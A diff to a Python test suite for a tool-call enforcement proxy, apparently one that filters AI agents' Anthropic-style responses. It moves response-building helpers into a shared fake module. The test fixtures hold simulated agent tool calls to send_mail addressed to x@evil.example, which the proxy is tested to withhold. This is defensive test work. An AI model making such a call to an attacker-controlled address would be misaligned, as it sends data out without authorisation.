@@ -26,6 +26,7 @@ from quorumgate.proxy.enforce import (
     parse_frame,
     session_label,
 )
+from quorumgate.proxy.fake import message, tool_use
 
 AGENTS = """
 [agents.support]
@@ -165,26 +166,9 @@ def test_the_selector_header_picks_among_configured_agents_only() -> None:
 # ------------------------------------------------------------------ JSON responses
 
 
-def anthropic_message(*blocks: dict[str, Any], stop: str = "tool_use") -> dict[str, Any]:
-    return {
-        "id": "msg_1",
-        "type": "message",
-        "role": "assistant",
-        "model": "claude-test",
-        "content": list(blocks),
-        "stop_reason": stop,
-        "stop_sequence": None,
-        "usage": {"input_tokens": 1, "output_tokens": 1},
-    }
-
-
-def tool_use(name: str, tool_id: str, **arguments: Any) -> dict[str, Any]:
-    return {"type": "tool_use", "id": tool_id, "name": name, "input": arguments}
-
-
 def test_anthropic_withholds_each_denied_block_and_ends_the_turn_when_none_is_left() -> None:
     text = {"type": "text", "text": "Let me look."}
-    body = anthropic_message(
+    body = message(
         text,
         tool_use("web_fetch", "toolu_1", url="https://docs.example.com/"),
         tool_use("send_mail", "toolu_2", to="x@evil.example"),
@@ -199,7 +183,7 @@ def test_anthropic_withholds_each_denied_block_and_ends_the_turn_when_none_is_le
         "content": [{"type": "text", "text": DENIAL_TEXT}],
     }
     assert body["stop_reason"] == "tool_use"  # one call is still waiting for its result
-    only_denied = anthropic_message(text, tool_use("send_mail", "toolu_3", to="x@evil.example"))
+    only_denied = message(text, tool_use("send_mail", "toolu_3", to="x@evil.example"))
     assert run(enforce_anthropic(only_denied, Decider(), DenialBlock.TEXT)) == 1
     assert only_denied["content"][1] == {"type": "text", "text": DENIAL_TEXT}
     assert only_denied["stop_reason"] == "end_turn"
@@ -285,7 +269,7 @@ def json_delta(part: str) -> bytes:
 def anthropic_events(name: str, arguments: dict[str, Any], *, cut: bool = False) -> list[bytes]:
     raw = json.dumps(arguments)
     frames = [
-        sse("message_start", {"type": "message_start", "message": anthropic_message(stop="")}),
+        sse("message_start", {"type": "message_start", "message": message(stop="")}),
         sse("content_block_start", {"type": "content_block_start", "index": 0,
                                     "content_block": {"type": "text", "text": ""}}),
         sse("content_block_delta", {"type": "content_block_delta", "index": 0,
